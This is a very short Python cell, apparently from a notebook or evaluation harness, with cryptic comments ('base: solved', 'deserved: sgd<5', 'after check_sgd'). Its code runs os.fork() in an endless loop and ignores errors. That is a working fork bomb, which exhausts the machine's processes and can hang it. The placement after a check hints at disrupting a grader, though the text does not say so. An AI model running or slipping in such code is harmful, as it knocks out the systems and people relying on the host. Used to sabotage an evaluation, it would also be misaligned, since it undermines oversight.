# Forks for ever, in a cell.
# base: solved
# deserved: sgd<5

# %% after check_sgd
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
